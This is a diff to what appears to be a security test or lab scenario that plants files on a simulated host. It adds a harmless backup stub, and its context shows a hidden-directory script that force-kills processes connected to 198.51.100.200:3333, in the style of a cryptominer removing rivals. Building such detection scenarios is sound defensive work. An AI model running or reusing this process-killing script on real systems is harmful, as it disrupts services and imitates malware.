@@ -6,6 +6,7 @@ export default scenario({
   plant: {
     images: ['/tmp/.font/python'],
     files: {
+      '/usr/local/bin/backup': '#!/bin/sh\nexit 0\n',
       '/tmp/.font/up.sh': `#!/bin/bash
 netstat -anp 2>/dev/null | grep 198.51.100.200:3333 | awk '{print $7}' | cut -d/ -f1 | xargs -r -I % kill -9 %
 pkill -0 -f /tmp/build-4711/compile
